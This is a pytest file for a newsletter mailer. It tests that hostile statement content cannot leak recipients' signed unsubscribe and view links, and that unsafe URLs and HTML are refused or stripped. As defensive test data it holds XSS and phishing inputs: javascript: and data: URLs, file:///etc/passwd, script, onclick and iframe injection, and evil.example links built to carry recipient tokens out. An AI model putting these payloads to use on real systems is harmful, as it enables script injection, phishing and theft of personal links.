"""Content cannot reach the personal slots, link anywhere but http(s)/mailto, or load anything."""

from __future__ import annotations

import datetime as dt
import re
from email import message_from_bytes, policy
from pathlib import Path

import pytest

from mailer.compose import Recipient
from mailer.errors import StatementError
from mailer.org import OrgProfile, load_profile
from mailer.render.personalise import FIELDS, Slots, compile_template
from mailer.render.variant import RenderedEmail, render_digest, render_email
from mailer.statements import parse_text
from mailer.statements.model import Block, CallToAction, Statement
from mailer.urls import url_problem
from tests.messages import EXAMPLES, compose

ORG = load_profile(EXAMPLES / "mailer.toml")
LEGACY = {name: f"__mailer_{name}__" for name in FIELDS}  # the markers of before


def _hostile(guess: str) -> str:
    """A statement with a marker (or a guess at one) in every field content controls."""
    marks = " ".join([*LEGACY.values(), guess])
    return (
        "---\n"
        "lang: en\n"
        f'title: "Hello {marks}"\n'
        f'lead: "Lead {marks}"\n'
        f'topics: ["{LEGACY["preferences_url"]}", "{guess}"]\n'
        f"url: https://evil.example/read?u={LEGACY['unsubscribe_url']}&g={guess}\n"
        "cta:\n"
        f'  - {{kind: petition, label: "Sign {LEGACY["unsubscribe_url"]} {guess}", '
        f'url: "https://evil.example/act?v={LEGACY["view_url"]}&g={guess}"}}\n'
        "---\n"
        f"A paragraph {marks}.\n\n"
        f"A [link](https://evil.example/{LEGACY['view_url']}/{guess}) and "
        f"![{LEGACY['greeting']}](https://evil.example/p.png?{LEGACY['unsubscribe_url']}).\n\n"
        f"> A quote {marks}\n\n"
        f"## A heading {marks}\n\n"
        f"- an item {marks}\n"
    )


def _benign() -> str:
    return (
        "---\nlang: en\ntitle: Hello\nlead: Lead\ntopics: [surveillance]\n"
        "url: https://example.org/read\n"
        "cta:\n  - {kind: petition, label: Sign, url: 'https://example.org/act'}\n---\n"
        "A paragraph.\n\nA [link](https://example.org/x) and text.\n\n> A quote\n\n"
        "## A heading\n\n- an item\n"
    )


SECRETS = Recipient(
    email="ana@example.net",
    name="Ana SECRET-NAME",
    message_id="<1.abc@example.org>",
    unsubscribe_url="https://mail.example.org/u/SECRET-UNSUBSCRIBE",
    unsubscribe_mailto="mailto:unsubscribe@example.org?subject=SECRET-MAILTO",
    preferences_url="https://mail.example.org/preferences/SECRET-PREFERENCES",
    view_url="https://mail.example.org/view/1/SECRET-VIEW",
    confirm_url="https://mail.example.org/confirm/SECRET-CONFIRM",
)
WORDS = ("SECRET-UNSUBSCRIBE", "SECRET-PREFERENCES", "SECRET-VIEW", "SECRET-NAME")


def _parts(variant: RenderedEmail) -> tuple[str, str]:
    message = message_from_bytes(compose(variant, SECRETS), policy=policy.default)
    html = message.get_body(("html",)).get_content()  # type: ignore[union-attr]
    text = message.get_body(("plain",)).get_content()  # type: ignore[union-attr]
    return html, text


def _counts(part: str) -> dict[str, int]:
    return {word: part.count(word) for word in WORDS}


def test_no_field_of_a_statement_can_reach_a_recipients_links() -> None:
    # A guess at the new marker form: right shape, but no render's nonce.
    guess = Slots.draw().marker("unsubscribe_url")
    hostile = parse_text(_hostile(guess), fmt="markdown", source="hostile.md")
    benign = parse_text(_benign(), fmt="markdown", source="benign.md")
    html, text = _parts(render_email("alert", hostile, locale="en", org=ORG))
    plain_html, plain_text = _parts(render_email("alert", benign, locale="en", org=ORG))
    # The signed links appear exactly where the template puts them, nowhere else.
    assert _counts(html) == _counts(plain_html) and _counts(html)["SECRET-UNSUBSCRIBE"] >= 1
    assert _counts(text) == _counts(plain_text) and _counts(text)["SECRET-VIEW"] >= 1
    # Every marker the content wrote is still there, as inert text.
    for part in (html, text):
        assert LEGACY["unsubscribe_url"] in part and guess in part
    assert f"https://evil.example/read?u={LEGACY['unsubscribe_url']}" in text
    assert not re.search(r"evil\.example[^\"\s<]*SECRET", html + text)


def test_a_digest_of_hostile_statements_keeps_its_slots() -> None:
    guess = Slots.draw().marker("view_url")
    hostile = parse_text(_hostile(guess), fmt="markdown", source="hostile.md")
    benign = parse_text(_benign(), fmt="markdown", source="benign.md")
    day = dt.date(2026, 11, 30)
    html, text = _parts(render_digest([hostile], locale="en", org=ORG, since=day, until=day))
    plain_html, plain_text = _parts(
        render_digest([benign], locale="en", org=ORG, since=day, until=day)
    )
    assert _counts(html) == _counts(plain_html) and _counts(text) == _counts(plain_text)
    assert LEGACY["unsubscribe_url"] in html and guess in text


def test_each_render_draws_new_markers_and_splits_only_on_its_own() -> None:
    first, second = Slots.draw(), Slots.draw()
    assert first.nonce != second.nonce
    text = f"a {first.marker('view_url')} b {second.marker('view_url')} c {LEGACY['view_url']}"
    compiled = compile_template(text, html=False, slots=first)
    assert compiled.fields == ("view_url",)
    filled = compiled.fill({"view_url": "LINK"})
    assert filled == f"a LINK b {second.marker('view_url')} c {LEGACY['view_url']}"


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.domain)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "file:///etc/passwd",
        "vbscript:msgbox(1)",
        "ftp://example.org/x",
        "//evil.example/x",
        "/relative/path",
        "https://bank.example@evil.example/",
        "https:evil.example",
        "https://exa mple.org/",
        "https://example.org/\u202egnp.exe",
        "",
    ],
)
def test_only_http_https_and_mailto_urls_are_allowed(url: str) -> None:
    assert url_problem(url) is not None


def test_allowed_urls_pass() -> None:
    for url in (
        "https://example.org/fr/agir?x=1#y",
        "http://example.org",
        "mailto:press@example.org?subject=Hi",
        "https://例え.テスト/パス",
    ):
        assert url_problem(url) is None, url


@pytest.mark.parametrize(
    ("front", "body", "where"),
    [
        ("url: javascript:alert(1)\n", "Text.\n", "bad.md: url: scheme 'javascript'"),
        ("url: file:///etc/passwd\n", "Text.\n", "bad.md: url: scheme 'file'"),
        (
            "cta:\n  - {kind: donate, url: 'data:text/html,x'}\n",
            "Text.\n",
            "bad.md: cta[0]: url: scheme 'data'",
        ),
        ("", "Text.\n\nA [link](javascript:alert(1)).\n", "bad.md:7: body: link"),
        ("", "Text.\n\n![pixel](data:image/png;base64,AAAA)\n", "bad.md:7: body: image"),
        ("", "Text [x](/relative).\n", "bad.md:5: body: link '/relative': not an absolute URL"),
    ],
)
def test_bad_urls_are_refused_at_parse_time_naming_file_and_field(
    front: str, body: str, where: str
) -> None:
    # Line numbers count from the file's first line (the body starts on line 5 here).
    text = f"---\ntitle: T\nlang: en\n{front}---\n{body}"
    with pytest.raises(StatementError) as caught:
        parse_text(text, fmt="markdown", source="bad.md")
    assert str(caught.value).startswith(where), str(caught.value)
    assert "\n" not in str(caught.value)


def _stored(**changes: object) -> Statement:
    """A statement as a database may hold it from before these checks."""
    base = Statement(
        id="old-en",
        lang="en",
        translation_key="old",
        title="Old statement",
        lead="Lead",
        blocks=(Block("paragraph", "A paragraph.", "A paragraph."),),
    )
    from dataclasses import replace

    return replace(base, **changes)  # type: ignore[arg-type]


def test_rendering_drops_what_a_stored_statement_should_not_hold() -> None:
    statement = _stored(
        url="javascript:alert(1)",
        cta=(
            CallToAction("petition", "data:text/html,x", "Bad button"),
            CallToAction("donate", "https://example.org/give", "Good button"),
        ),
        blocks=(
            Block(
                "paragraph",
                "text",
                'See <a href="javascript:alert(1)">this</a>, <a href="https://example.org/ok">that</a>'
                ' <img src="https://tracker.example/p.gif?id=1" alt="Map of the camps">'
                '<script>alert(1)</script><b onclick="x()">bold</b>'
                '<iframe src="https://evil.example/"></iframe>',
            ),
        ),
    )
    variant = render_email("alert", statement, locale="en", org=ORG)
    html = variant.html.fill(dict.fromkeys(FIELDS, ""))
    text = variant.text.fill(dict.fromkeys(FIELDS, ""))
    for part in (html, text):
        assert "javascript:" not in part and "data:text" not in part
    assert "Bad button" not in html and "Good button" in html
    assert '<a href="https://example.org/ok"' in html and ">this<" not in html
    assert "<script" not in html and "onclick" not in html and "<iframe" not in html
    assert "tracker.example" not in html and "Map of the camps" in html
    assert "<strong>bold</strong>" in html


def _org_with(tmp_path: Path, extra: str) -> OrgProfile:
    text = (EXAMPLES / "mailer.toml").read_text(encoding="utf-8")
    key = extra.split("=")[0].strip()
    text = re.sub(rf"(?m)^{key} = .*\n", "", text)  # the line replaces the example's own
    text = text.replace("[organisation]\n", f"[organisation]\n{extra}\n", 1)
    path = tmp_path / "mailer.toml"
    path.write_text(text, encoding="utf-8")
    return load_profile(path)


def test_remote_images_are_dropped_unless_their_host_is_allowed(tmp_path: Path) -> None:
    source = (
        "---\ntitle: Camps\nlang: en\n---\nWhat we saw.\n\n"
        "![Map of the camps](https://images.example.org/map.png) and "
        "![Pixel](https://tracker.example/p.gif)\n"
    )
    statement = parse_text(source, fmt="markdown", source="camps.md")
    default = render_email("alert", statement, locale="en", org=ORG)
    html = default.html.fill(dict.fromkeys(FIELDS, ""))
    assert "<img" not in html.split("</head>")[1]
    assert "Map of the camps" in html and "Pixel" in html
    allowing = _org_with(tmp_path, 'image_hosts = ["images.example.org"]')
    html = render_email("alert", statement, locale="en", org=allowing).html.fill(
        dict.fromkeys(FIELDS, "")
    )
    assert '<img src="https://images.example.org/map.png" alt="Map of the camps"' in html
    assert "tracker.example" not in html


def test_a_profile_with_a_bad_image_host_or_url_is_refused(tmp_path: Path) -> None:
    from mailer.errors import ConfigError

    for extra, problem in (
        ('image_hosts = ["https://x.example/"]', "image_hosts[0]"),
        ('website = "javascript:alert(1)"', "organisation.website"),
    ):
        with pytest.raises(ConfigError, match=re.escape(problem)):
            _org_with(tmp_path, extra)
